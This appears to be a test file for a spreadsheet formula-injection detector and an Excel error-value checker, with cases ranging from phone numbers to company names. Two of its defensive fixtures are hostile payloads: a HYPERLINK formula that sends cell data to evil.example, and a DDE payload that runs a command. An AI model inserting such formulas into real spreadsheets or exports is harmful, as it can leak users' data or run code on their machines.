import { formulaStart, isExcelErrorValue } from "./formulaLike";

describe("formulaStart", () => {
  const cases = [
    { value: "=1+1", expected: "=", notes: "plain formula" },
    {
      value: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      expected: "=",
      notes: "data exfiltration link",
    },
    { value: "=cmd|' /C calc'!A0", expected: "=", notes: "DDE payload" },
    {
      value: "@Home Networks Ltd",
      expected: null,
      notes: "a company name starting with @ (RULES.md: never flagged)",
    },
    { value: "@SUM(1+1)", expected: null, notes: "@ is not flagged even before a function name" },
    { value: "+20% seats", expected: null, notes: "a note starting with +" },
    { value: "- bullet point", expected: null, notes: "a dash-bullet note" },
    { value: "-2+3", expected: null, notes: "- is never flagged, even before arithmetic" },
    { value: "+1 425 555 0100", expected: null, notes: "international phone number" },
    { value: "'=1+1", expected: null, notes: "already quoted by the user: text in a spreadsheet" },
    { value: "a=b", expected: null, notes: "= in the middle is harmless" },
    { value: "", expected: null, notes: "empty cell" },
  ];
  it.each(cases)("$notes: $value", ({ value, expected }) => {
    expect(formulaStart(value)).toBe(expected);
  });
});

describe("isExcelErrorValue", () => {
  const cases = [
    ...[
      "#N/A",
      "#REF!",
      "#VALUE!",
      "#DIV/0!",
      "#NAME?",
      "#NULL!",
      "#NUM!",
      "#SPILL!",
      "#CALC!",
      "#GETTING_DATA",
    ].map((value) => ({ value, expected: true, notes: "one of the error values RULES.md lists" })),
    { value: "#n/a", expected: true, notes: "retyped in lower case" },
    { value: "#N/A more", expected: false, notes: "text that only starts like one" },
    { value: "#1 priority", expected: false, notes: "a hash sign in ordinary text" },
    { value: "N/A", expected: false, notes: "without the hash it is the user's own wording" },
  ];
  it.each(cases)("$notes: $value", ({ value, expected }) => {
    expect(isExcelErrorValue(value)).toBe(expected);
  });
});
